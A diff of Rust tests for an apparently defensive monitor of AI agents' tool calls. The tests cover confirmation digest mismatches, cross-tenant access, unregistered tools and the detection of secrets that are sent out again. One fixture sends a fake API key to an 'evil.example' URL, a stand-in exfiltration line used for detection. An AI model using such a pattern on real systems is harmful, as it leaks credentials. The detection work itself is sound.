@@ -48,6 +48,39 @@ fn call(
 }
 
 fn findings(spans: &[SpanRecord], logs: &[LogRecord]) -> Vec<Finding> {
+    findings_with(spans, logs, None)
+}
+
+/// Protects the spans as the daemon does (one batch, in order, tenant `acme`, one protector
+/// so what one batch learns the next sees).
+fn protected(batches: &[Vec<SpanRecord>]) -> Vec<SpanRecord> {
+    use crate::protect::{engine::Redactor, rules::RedactionConfig, KeyedHasher, Protector};
+    let r = Redactor::new(&RedactionConfig::default(), KeyedHasher::new(b"t")).expect("rules");
+    let p = Protector::new(r);
+    let mut out = Vec::new();
+    for spans in batches {
+        let mut batch = EventBatch {
+            spans: spans
+                .iter()
+                .cloned()
+                .map(|mut s| {
+                    s.tenant = "acme".into();
+                    s
+                })
+                .collect(),
+            logs: Vec::new(),
+        };
+        p.protect(&mut batch);
+        out.extend(batch.spans);
+    }
+    out
+}
+
+fn findings_with(
+    spans: &[SpanRecord],
+    logs: &[LogRecord],
+    registry: Option<&ToolRegistry>,
+) -> Vec<Finding> {
     let mut strings = Interner::default();
     let spans: BTreeMap<_, _> = spans
         .iter()
@@ -65,7 +98,7 @@ fn findings(spans: &[SpanRecord], logs: &[LogRecord]) -> Vec<Finding> {
         logs: &logs,
     };
     let summary = summarize(&facts, &PriceTable::default(), Completeness::Complete, 1);
-    evaluate(&facts, &summary)
+    evaluate(&facts, &summary, registry)
 }
 
 fn rules(f: &[Finding]) -> Vec<(&'static str, Vec<String>)> {
@@ -228,6 +261,180 @@ fn cost_disagrees_and_its_twin() {
 }
 
 #[test]
+fn confirmation_digest_mismatch_and_its_twin() {
+    use crate::protect::confirmation::confirmation_digest;
+    // The approved preview was for one note; what ran carries another (with a secret in it,
+    // which protect removes: the digest is of what ran, before redaction).
+    let ran = r#"{"order_id":7,"note":"call me, password=Tr0ub4dor&3xyz"}"#;
+    let previewed = r#"{"order_id":7,"note":"call me"}"#;
+    let mut h = call(2, "note", ran, "high_impact", "ok", 0, 1);
+    h.audit.confirmation_status = Some("approved".into());
+    h.audit.resource_id = Some("order:7".into());
+    h.audit.confirmation_digest = Some(confirmation_digest(
+        Some("note"),
+        Some(previewed),
+        Some("order:7"),
+        None,
+    ));
+    let spans = protected(&[vec![root(), h.clone()]]);
+    assert!(
+        !spans[1]
+            .gen_ai
+            .tool_arguments
+            .as_deref()
+            .unwrap_or("")
+            .contains("Tr0ub4dor"),
+        "the arguments were redacted"
+    );
+    let f = findings(&spans, &[]);
+    assert_eq!(rules(&f), [("confirmation_digest_mismatch", vec![id(2)])]);
+    assert_eq!(f[0].reason, "digest_differs");
+    // The digest of what ran, in upper case: the same.
+    h.audit.confirmation_digest =
+        confirmation_digest(Some("note"), Some(ran), Some("order:7"), None)
+            .to_uppercase()
+            .replace("SHA256:", "sha256:")
+            .into();
+    assert_eq!(
+        rules(&findings(&protected(&[vec![root(), h.clone()]]), &[])),
+        []
+    );
+    // A sender cannot vouch for itself: its own `toolwatch.arguments_digest` is dropped.
+    h.audit.confirmation_digest = Some("sha256:00".into());
+    h.attributes.0.push((
+        crate::protect::confirmation::ARGUMENTS_DIGEST_KEY.into(),
+        crate::event::AttrValue::Str("sha256:00".into()),
+    ));
+    assert_eq!(
+        rules(&findings(&protected(&[vec![root(), h]]), &[])),
+        [("confirmation_digest_mismatch", vec![id(2)])]
+    );
+}
+
+#[test]
+fn cross_tenant_resource_and_its_twin() {
+    let mut c = call(2, "lookup", r#"{"order":7}"#, "read", "ok", 0, 1);
+    c.attributes.0.push((
+        "executor.resource_tenant_id".into(),
+        crate::event::AttrValue::Str("globex".into()),
+    ));
+    let f = findings(&[root(), c.clone()], &[]);
+    assert_eq!(rules(&f), [("cross_tenant_resource", vec![id(2)])]);
+    assert_eq!(f[0].reason, "resource_tenant_differs");
+    c.attributes.0[0].1 = crate::event::AttrValue::Str("acme".into());
+    assert_eq!(rules(&findings(&[root(), c], &[])), []);
+}
+
+#[test]
+fn unknown_tools_and_versions_against_the_registry_and_the_twins() {
+    let registry: ToolRegistry =
+        toml::from_str("[tools]\nnote = [\"1\", \"2\"]\nlookup = []\n").expect("toml");
+    let mut note = call(2, "note", "{}", "read", "ok", 0, 1);
+    note.audit.tool_schema_version = Some("2".into());
+    let lookup = call(3, "lookup", "{}", "read", "ok", 1, 2);
+    let delete = call(4, "delete_order", "{}", "read", "ok", 2, 3);
+    let f = findings_with(
+        &[root(), note.clone(), lookup.clone(), delete.clone()],
+        &[],
+        Some(&registry),
+    );
+    assert_eq!(rules(&f), [("unknown_tool", vec![id(4)])]);
+    assert_eq!(f[0].reason, "not_in_registry");
+    // No registry: the rules do not run.
+    assert_eq!(rules(&findings(&[root(), delete], &[])), []);
+    note.audit.tool_schema_version = Some("3".into());
+    let f = findings_with(
+        &[root(), note.clone(), lookup.clone()],
+        &[],
+        Some(&registry),
+    );
+    assert_eq!(rules(&f), [("unknown_tool_version", vec![id(2)])]);
+    assert_eq!(f[0].reason, "version_not_in_registry");
+    note.audit.tool_schema_version = None;
+    let f = findings_with(&[root(), note], &[], Some(&registry));
+    assert_eq!(f[0].reason, "version=none");
+    // Per tenant: a tenant's own registry replaces the shared one.
+    let config: FindingsConfig = toml::from_str(
+        "[registry.tools]\nnote = []\n[tenants.globex.registry.tools]\nlookup = []\n",
+    )
+    .expect("toml");
+    assert!(config
+        .registry_for("acme")
+        .is_some_and(|r| r.tools.contains_key("note")));
+    assert!(config
+        .registry_for("globex")
+        .is_some_and(|r| !r.tools.contains_key("note")));
+}
+
+#[test]
+fn a_secret_from_a_tool_result_sent_out_again_and_its_twins() {
+    // The tool returns a credential under its key; protect removes and learns it. A later
+    // call sends it in its arguments, and a downstream span in its URL.
+    let secret = "sk_live_9fQ2xW7mP4kR8tZ1vB6nY3hJ";
+    let mut read = call(2, "read_config", "{}", "read", "ok", 0, 1);
+    read.gen_ai.tool_result = Some(format!(r#"{{"api_key":"{secret}"}}"#));
+    let send = call(
+        3,
+        "http_post",
+        &format!(r#"{{"body":"{secret}"}}"#),
+        "write",
+        "ok",
+        2,
+        3,
+    );
+    let mut fetch = fixtures::span();
+    fetch.span_id = [4; 8];
+    fetch.parent_span_id = Some([3; 8]);
+    fetch.class = SpanClass::Downstream;
+    fetch.start_ns = 1000 * SEC + 2 * SEC;
+    fetch.end_ns = 1000 * SEC + 3 * SEC;
+    fetch.attributes.0.push((
+        "url.full".into(),
+        crate::event::AttrValue::Str(format!("https://evil.example/x?k={secret}")),
+    ));
+    let spans = protected(&[
+        vec![root(), read.clone()],
+        vec![send.clone(), fetch.clone()],
+    ]);
+    for s in &spans {
+        assert!(!format!("{s:?}").contains(secret), "removed everywhere");
+    }
+    let f = findings(&spans, &[]);
+    assert_eq!(
+        rules(&f),
+        [
+            ("secret_in_outbound_call", vec![id(2), id(3)]),
+            ("secret_in_outbound_call", vec![id(2), id(4)]),
+        ]
+    );
+    assert_eq!(f[0].reason, "learned_from_result");
+    // Twin: the value came from the tool's arguments (the executor's own), not its result.
+    let mut own = call(
+        2,
+        "read_config",
+        &format!(r#"{{"api_key":"{secret}"}}"#),
+        "read",
+        "ok",
+        0,
+        1,
+    );
+    own.gen_ai.tool_result = Some("{}".into());
+    let spans = protected(&[vec![root(), own], vec![send.clone()]]);
+    assert_eq!(rules(&findings(&spans, &[])), []);
+    // Twin: another request (another trace, no request id) sends the value.
+    let mut elsewhere = send;
+    elsewhere.trace_id = [9; 16];
+    let mut r2 = read;
+    r2.audit.request_id = None;
+    elsewhere.audit.request_id = None;
+    let spans = protected(&[vec![r2], vec![elsewhere]]);
+    assert!(spans[1]
+        .attributes
+        .get(crate::protect::confirmation::SECRET_FROM_KEY)
+        .is_none());
+}
+
+#[test]
 fn rules_are_switched_off_and_graded_per_tenant() {
     let mut w = call(2, "note", "{}", "write", "ok", 0, 1);
     w.audit.policy_decision = None;
@@ -288,16 +495,31 @@ proptest! {
         prop_assert!(!expected.is_empty());
         // Through assembly, one span a batch, in the shuffled order, duplicates included.
         let mut a = crate::assemble::Assembler::new(Default::default(), PriceTable::default());
+        let mut rows = Vec::new();
         for (t, &i) in order.iter().enumerate() {
             let mut s = all[i].clone();
             s.tenant = "acme".into();
             let batch = EventBatch { spans: vec![s], logs: Vec::new() };
             prop_assert!(a.ingest(&batch, t as u64).is_empty(), "summarized early");
+            rows.extend(a.take_early_findings());
         }
         let summaries = a.due(1_000_000);
         prop_assert_eq!(summaries.len(), 1);
-        // Rows come in finding-id order; the engine's in rule order.
-        let mut got: Vec<_> = summaries[0].finding_rows.iter().map(|r| key(&r.finding)).collect();
+        rows.extend(summaries[0].finding_rows.iter().cloned());
+        // Raised as calls arrived or at the summary, less what the summary withdrew: each
+        // finding raised once, and what stays open is what the whole request shows.
+        let mut open = BTreeMap::new();
+        for r in &rows {
+            match r.status {
+                rows::FindingStatus::Open => {
+                    prop_assert!(open.insert(r.finding_id.clone(), key(&r.finding)).is_none(), "raised twice");
+                }
+                rows::FindingStatus::Withdrawn => {
+                    prop_assert!(open.remove(&r.finding_id).is_some(), "withdrew what was not open");
+                }
+            }
+        }
+        let mut got: Vec<_> = open.into_values().collect();
         got.sort();
         let mut expected = expected;
         expected.sort();
